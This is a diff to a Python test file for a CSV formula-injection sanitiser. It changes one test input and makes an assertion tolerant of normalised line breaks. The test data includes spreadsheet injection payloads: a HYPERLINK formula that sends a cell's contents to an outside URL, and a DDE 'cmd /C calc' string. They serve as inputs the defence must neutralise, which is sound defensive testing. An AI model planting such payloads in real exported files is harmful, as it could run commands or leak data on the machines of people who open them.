@@ -14,7 +14,7 @@ from scrutiny.core.csv_cells import FORMULA_STARTS, dict_writer, safe_cell
 @pytest.mark.parametrize(
     "text",
     ['=HYPERLINK("https://example.org/?"&A2,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-     "\t=1+1", "\r=1+1", "-", "=", "+cmd"],
+     "\t=1+1", "\n=1+1", "-", "=", "+cmd"],
 )
 def test_text_that_could_start_a_formula_gets_an_apostrophe(text):
     assert safe_cell(text) == "'" + text
@@ -35,7 +35,8 @@ def test_no_written_cell_starts_a_formula_unless_it_is_a_plain_number(text):
     (cell,) = row or [""]
     if cell.startswith(FORMULA_STARTS):
         float(cell)  # what is left is a number, which is no formula
-    assert cell.removeprefix("'") == text or cell == text
+    written = text.replace("\r\n", "\n").replace("\r", "\n")  # line breaks kept, as LF
+    assert cell.removeprefix("'") == written or cell == written
 
 
 def test_the_header_and_each_row_are_neutralised_by_the_writer():
